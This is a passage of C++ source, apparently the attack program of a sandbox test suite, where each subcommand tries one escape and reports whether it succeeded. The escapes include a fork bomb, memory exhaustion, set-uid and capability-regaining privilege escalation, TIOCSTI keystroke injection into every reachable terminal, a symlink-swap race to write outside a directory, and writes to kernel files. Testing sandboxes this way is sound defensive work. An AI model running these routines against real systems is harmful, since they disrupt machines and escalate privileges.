  void* const shared = ::mmap(nullptr, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
  if (shared == MAP_FAILED) return impossible("no shared memory");
  auto* const tries = static_cast<int*>(shared);
  while (__atomic_add_fetch(tries, 1, __ATOMIC_RELAXED) < 3000)
    if (::fork() == 0) ::setsid();
  while (true) ::pause();
}

/// BYTES: maps so many, then uses them all; says what it got.
int memory(const Arguments& a) {
  const auto size = static_cast<std::size_t>(std::stoull(a.at(0)));
  void* const mapped = ::mmap(nullptr, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (mapped == MAP_FAILED) return lost("mmap");
  std::memset(mapped, 1, size);
  return won("has them all");
}

/// PROGRAM: a set-uid program; is it anybody else than we are?
int become_by_setuid(const Arguments& a) {
  int hold[2] = {-1, -1};
  if (::pipe(hold) != 0) return impossible("no pipe");
  const pid_t child = ::fork();
  if (child == 0) {
    ::dup2(hold[0], 0);
    const int null = ::open("/dev/null", O_WRONLY | O_CLOEXEC);
    ::dup2(null, 1);
    ::dup2(null, 2);
    ::execl(a.at(0).c_str(), a.at(0).c_str(), "sleep", nullptr);
    ::_exit(127);
  }
  std::string found;
  for (int i = 0; i != 100 && found.empty(); ++i) {
    std::ifstream status("/proc/" + std::to_string(child) + "/status");
    for (std::string line; std::getline(status, line);)
      if (line.starts_with("Uid:")) {
        std::istringstream words(line.substr(4));
        unsigned real = 0;
        unsigned effective = 0;
        words >> real >> effective;
        if (effective != ::geteuid()) found = std::to_string(effective);
      }
    ::poll(nullptr, 0, 3);
  }
  ::close(hold[1]);
  ::kill(child, SIGKILL);
  ::waitpid(child, nullptr, 0);
  errno = EPERM;
  return found.empty() ? lost("set-uid") : won("became " + found);
}

/// Is it a helper of become_by_setuid: a copy of this program with the set-uid bit. Waits for its input to end.
int sleep_on_input(const Arguments&) {
  char byte = 0;
  (void)!::read(0, &byte, 1);
  return 0;
}

/// ALLOWED: whether a capability outside this mask, or the way to one, is left.
int keep_capabilities(const Arguments& a) {
  const unsigned long long allowed = std::strtoull(a.at(0).c_str(), nullptr, 16);
  std::ifstream status("/proc/self/status");
  std::string left;
  for (std::string line; std::getline(status, line);) {
    for (const char* set : {"CapInh:", "CapPrm:", "CapEff:", "CapAmb:"})
      if (line.starts_with(set) && (std::strtoull(line.c_str() + std::strlen(set), nullptr, 16) & ~allowed) != 0)
        left += line + " ";
    if (line.starts_with("NoNewPrivs:") && line.find('1') == std::string::npos) left += line;
  }
  errno = EPERM;
  return left.empty() ? lost("capabilities") : won(left);
}

/// Every way back to a capability: asking for it, the ambient set, looser securebits, another execve as uid 0. Wins
/// when one that is not among the effective ones now becomes so.
int regain_capabilities(const Arguments& a) {
  const auto effective = [] {
    std::ifstream status("/proc/self/status");
    for (std::string line; std::getline(status, line);)
      if (line.starts_with("CapEff:")) return std::strtoull(line.c_str() + 7, nullptr, 16);
    return ~0ULL;
  };
  const unsigned long long now = effective();
  if (!a.empty()) return (now & ~std::strtoull(a.at(0).c_str(), nullptr, 16)) != 0 ? won("by execve") : lost("execve");
  struct {
    std::uint32_t version = 0x20080522;
    int pid = 0;
  } header;
  for (unsigned bit = 0; bit != 41; ++bit) {
    if ((now >> bit & 1U) != 0) continue;
    std::array<std::uint32_t, 6> sets{};
    for (std::size_t set = 0; set != 3; ++set) {
      sets.at(set) = static_cast<std::uint32_t>(now);
      sets.at(3 + set) = static_cast<std::uint32_t>(now >> 32U);
      sets.at(bit < 32 ? set : 3 + set) |= 1U << (bit % 32);
    }
    if (::syscall(SYS_capset, &header, sets.data()) == 0) return won("capset " + std::to_string(bit));
    if (::prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, bit, 0, 0) == 0) return won("ambient " + std::to_string(bit));
  }
  if (::prctl(PR_SET_SECUREBITS, 0) == 0) return won("securebits");
  std::array<char, 32> mask{};
  std::snprintf(mask.data(), mask.size(), "%llx", now);
  ::execl("/proc/self/exe", "payload", "regain-capabilities", mask.data(), nullptr);
  return impossible("no execve");
}

/// Prints what keeps privileges away. Not an attack.
int show_privileges(const Arguments&) {
  std::printf("no_new_privs %d\nseccomp %d\nsecurebits %d\n", ::prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0),
              ::prctl(PR_GET_SECCOMP), ::prctl(PR_GET_SECUREBITS));
  return attack_refused;
}

// --- descriptors and terminals ---------------------------------------------------------------------------------

/// Anything open above stderr.
int inherited_descriptors(const Arguments&) {
  std::string found;
  for (int fd = 3; fd != 1024; ++fd) {
    if (::fcntl(fd, F_GETFD) < 0) continue;
    std::array<char, 512> target{};
    (void)!::readlink(("/proc/self/fd/" + std::to_string(fd)).c_str(), target.data(), target.size() - 1);
    found += std::to_string(fd) + "=" + target.data() + " ";
    void* map = ::mmap(nullptr, 1, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    if (map != MAP_FAILED) *static_cast<char*>(map) = 'x';  // what was opened before must not be written through
  }
  errno = EBADF;
  return found.empty() ? lost("descriptors above 2") : won("found " + found);
}

/// stdin, stdout and stderr opened again for writing: anything but a pipe or a sink is somebody's file.
int reopen_standard_streams(const Arguments&) {
  std::string found;
  for (int fd = 0; fd != 3; ++fd)
    for (int flags : {O_WRONLY, O_RDWR}) {
      const int again = ::open(("/proc/self/fd/" + std::to_string(fd)).c_str(), flags | O_NONBLOCK | O_CLOEXEC);
      struct stat facts {};
      if (again < 0 || ::fstat(again, &facts) != 0 || S_ISFIFO(facts.st_mode)) continue;
      const bool null = S_ISCHR(facts.st_mode) && facts.st_rdev == ::makedev(1, 3);
      if (!null) found += std::to_string(fd) + " ";
    }
  errno = EACCES;
  return found.empty() ? lost("reopening") : won("reopened " + found);
}

/// Types into every terminal that can be reached.
int inject_into_terminal(const Arguments&) {
  constexpr unsigned long linux_console = 0x541C;  // TIOCLINUX
  int error = ENOTTY;
  std::vector<int> terminals{0, 1, 2};
  const auto add = [&](const std::string& path) {
    for (int flags : {O_RDWR, O_RDONLY}) {
      const int fd = ::open(path.c_str(), flags | O_NOCTTY | O_NONBLOCK | O_CLOEXEC);
      if (fd >= 0) terminals.push_back(fd);
    }
  };
  add("/dev/tty");
  add("/dev/console");
  if (DIR* directory = ::opendir("/dev/pts")) {
    while (const dirent* entry = ::readdir(directory))
      if (entry->d_name != std::string("ptmx")) add("/dev/pts/" + std::string(entry->d_name));
    ::closedir(directory);
  }
  for (int fd = 3; fd != 64; ++fd)
    if (::isatty(fd) == 1) terminals.push_back(fd);
  std::string typed_into;
  for (int fd : terminals) {
    char typed = '\n';
    if (::ioctl(fd, TIOCSTI, &typed) == 0) typed_into += "TIOCSTI on " + std::to_string(fd) + " ";
    if (errno != EBADF) error = errno;
    char paste[2] = {3, 0};
    if (::ioctl(fd, linux_console, paste) == 0) typed_into += "TIOCLINUX on " + std::to_string(fd) + " ";
  }
  errno = error;
  return typed_into.empty() ? lost("terminals") : won(typed_into);
}

// --- sockets ---------------------------------------------------------------------------------------------------

int connect_to(const std::string& name, bool abstract) {
  const int fd = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  socklen_t length = 0;
  const sockaddr_un address = address_of(name, abstract, length);
  if (::connect(fd, reinterpret_cast<const sockaddr*>(&address), length) != 0) return lost("connect");
  return judge(::send(fd, "x", 1, MSG_NOSIGNAL), "connected and sent");
}
int connect_abstract(const Arguments& a) {
  return connect_to(a.at(0), true);
}
int connect_path(const Arguments& a) {
  return connect_to(a.at(0), false);
}

// --- races and the kernel's own files --------------------------------------------------------------------------

/// DIRECTORY OUTSIDE: one process turns a directory into a symlink to OUTSIDE and back, another makes files in it.
int race_directory(const Arguments& a) {
  const std::string swapped = a.at(0) + "/swapped";
  const std::string aside = a.at(0) + "/aside";
  const std::string link = a.at(0) + "/link";
  if (::mkdir(swapped.c_str(), 0700) != 0) return impossible("no place for the race: " + name_of(errno));
  if (::symlink(a.at(1).c_str(), link.c_str()) != 0) return impossible("no symlink for the race");
  const pid_t swapper = ::fork();
  if (swapper == 0) {
    ::alarm(2);
    while (true) {
      (void)::rename(swapped.c_str(), aside.c_str());
      (void)::rename(link.c_str(), swapped.c_str());
      (void)::rename(swapped.c_str(), link.c_str());
      (void)::rename(aside.c_str(), swapped.c_str());
    }
  }
  const auto end = std::chrono::steady_clock::now() + std::chrono::milliseconds(600);
  int error = 0;
  bool made = false;
  while (std::chrono::steady_clock::now() < end && !made) {
    const std::string file = swapped + "/raced";
    const int fd = ::open(file.c_str(), O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
    if (fd < 0 && errno != ENOENT) error = errno;
    if (fd >= 0) ::close(fd);
    (void)::mkdir((swapped + "/raced-directory").c_str(), 0700);
    (void)::unlink(file.c_str());
    made = ::access((a.at(1) + "/raced").c_str(), F_OK) == 0 ||
           ::access((a.at(1) + "/raced-directory").c_str(), F_OK) == 0;
  }
  ::kill(swapper, SIGKILL);
  ::waitpid(swapper, nullptr, 0);
  errno = error;
  return made ? won("made a file outside by a race") : lost("race");
}

/// Opens for writing what it finds below `path`, and closes it again. At most `budget` entries.
void open_all_below(const std::string& path, const Arguments& left_out, int depth, int& budget, std::string& opened) {
  DIR* directory = ::opendir(path.c_str());
  if (directory == nullptr) return;
  while (const dirent* entry = ::readdir(directory)) {
    const std::string name = entry->d_name;
    if (name == "." || name == ".." || --budget < 0) continue;
    const std::string child = path + "/" + name;
    const bool process = path == "/proc" && name.find_first_not_of("0123456789") == std::string::npos;
    if (process || std::find(left_out.begin(), left_out.end(), child) != left_out.end()) continue;
    if (entry->d_type == DT_DIR && depth > 0) {
      open_all_below(child, left_out, depth - 1, budget, opened);
    } else if (entry->d_type == DT_REG) {
      const int fd = ::open(child.c_str(), O_WRONLY | O_NONBLOCK | O_NOFOLLOW | O_CLOEXEC);
      if (fd < 0) continue;
      ::close(fd);
      if (opened.size() < 400) opened += child + " ";
    }
  }
  ::closedir(directory);
}

/// DIRECTORY PATH…: whether any file of the kernel's own below DIRECTORY can be opened for writing, the PATHs left out.
int open_kernel_files(const Arguments& a) {
  std::string opened;
  int budget = 60000;
  open_all_below(a.at(0), a, 8, budget, opened);
  errno = EROFS;
  return opened.empty() ? lost("kernel files") : won("opened " + opened);
}

using Attack = int (*)(const Arguments&);

const std::map<std::string, Attack> attacks{
    {"create-file", create_file},
    {"make-directory", make_directory},
    {"make-symlink", make_symlink},
    {"make-fifo", make_fifo},
    {"make-socket", make_socket},
    {"make-unnamed", make_unnamed},
    {"append", append},
    {"write-mapped", write_mapped},
    {"punch-hole", punch_hole},
    {"allocate", allocate},
    {"write-by-sendfile", write_by_sendfile},
    {"write-by-splice", write_by_splice},
    {"write-by-copy-range", write_by_copy_range},
    {"write-by-io-uring", write_by_io_uring},
    {"write-by-handle", write_by_handle},
    {"truncate", truncate_it},
    {"open-truncating", open_truncating},
    {"unlink", unlink_it},
    {"remove-directory", remove_directory},
    {"rename", rename_it},
    {"exchange", exchange},
    {"link", link_it},
    {"chmod", chmod_it},
    {"chmod-descriptor", chmod_descriptor},
    {"chmod-newest", chmod_newest},
    {"chmod-to-same", chmod_to_same},
    {"chmod-open-descriptors", chmod_open_descriptors},
    {"chown-to-self", chown_to_self},
    {"set-times", set_times},
    {"set-attribute", set_attribute},
    {"remove-attribute", remove_attribute},
    {"set-acl", set_acl},
    {"set-inode-flags", set_inode_flags},
    {"make-character-device", make_character_device},
    {"make-block-device", make_block_device},
    {"make-whiteout", make_whiteout},
    {"open-for-writing", open_for_writing},
    {"control-device", control_device},
    {"remount", remount},
    {"mount-something", mount_something},
    {"unmount", unmount},
    {"nested-namespace", nested_namespace},
    {"open-file-system", open_file_system},
    {"change-root", change_root},
    {"pivot-root", pivot_root_to},
    {"climb", climb},
    {"process-files", process_files},
    {"trace", trace},
    {"write-memory", write_memory},
    {"take-descriptor", take_descriptor},
    {"signal", signal_it},
    {"keyring-to-parent", keyring_to_parent},
    {"leave-sibling", leave_sibling},
    {"processes", processes},
    {"bomb", bomb},
    {"limit-process", limit_process},
    {"start-in-group", start_in_group},
    {"leave-ipc", leave_ipc},
    {"count-ipc", count_ipc},
    {"memory", memory},
    {"become-by-setuid", become_by_setuid},
    {"sleep", sleep_on_input},
    {"keep-capabilities", keep_capabilities},
    {"regain-capabilities", regain_capabilities},
    {"show-privileges", show_privileges},
    {"inherited-descriptors", inherited_descriptors},
    {"reopen-standard-streams", reopen_standard_streams},
    {"inject-into-terminal", inject_into_terminal},
    {"connect-abstract", connect_abstract},
    {"connect-path", connect_path},
    {"race-directory", race_directory},
    {"open-kernel-files", open_kernel_files},
};

}  // namespace

int main(int argc, char** argv) {
  ::alarm(20);  // a sandbox that makes an attack hang must not make the tests hang
  const Arguments arguments(argv + (argc > 1 ? 2 : 1), argv + argc);
  const auto attack = attacks.find(argc > 1 ? argv[1] : "");
  if (attack == attacks.end()) return impossible("no such attack");
  try {
    return attack->second(arguments);
  } catch (const std::exception& error) {
    return impossible(std::string("an argument is missing: ") + error.what());
  }
}
